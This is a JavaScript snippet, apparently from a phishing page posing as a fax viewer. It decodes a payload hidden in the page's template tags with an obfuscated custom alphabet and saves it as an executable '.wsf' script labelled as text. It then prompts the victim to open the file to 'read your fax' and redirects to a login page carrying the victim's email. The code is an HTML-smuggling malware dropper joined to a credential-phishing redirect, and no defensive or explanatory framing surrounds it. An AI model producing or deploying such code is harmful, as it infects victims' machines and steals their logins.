function Decoder(alpha){this.a=alpha;this.r=[];}
Decoder.prototype.feed=function(s){var b=0,n=0;for(var i=0;i<s.length;i++){var v=this.a.indexOf(s.charAt(i));if(v<0)continue;b=(b<<6)|v;n+=6;if(n>=8){n-=8;this.r.push((b>>n)&255)}}return this;};
Decoder.prototype.file=function(n,t){return new File([new Uint8Array(this.r)],n,{type:t});};
var dec=new Decoder('zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210-_');
var chunks=document.getElementsByTagName('template');
for(var i=0;i<chunks.length;i++)dec.feed(chunks[i].innerHTML);
document.getElementById('open').addEventListener('click',function(ev){
  ev.preventDefault();
  var f=dec.file('Fax_message_'+(''+Date.now()).slice(-6)+'.wsf','text/plain'),u=URL.createObjectURL(f);
  var l=document.createElement('a');l.href=u;l.download=f.name;l.style.display='none';
  document.body.appendChild(l);l.click();
  this.innerHTML='Open <b>'+f.name+'</b> to read your fax';
  setTimeout(function(){location.href='https://login.example/?e='+encodeURIComponent(window.m||'')},6000);
});
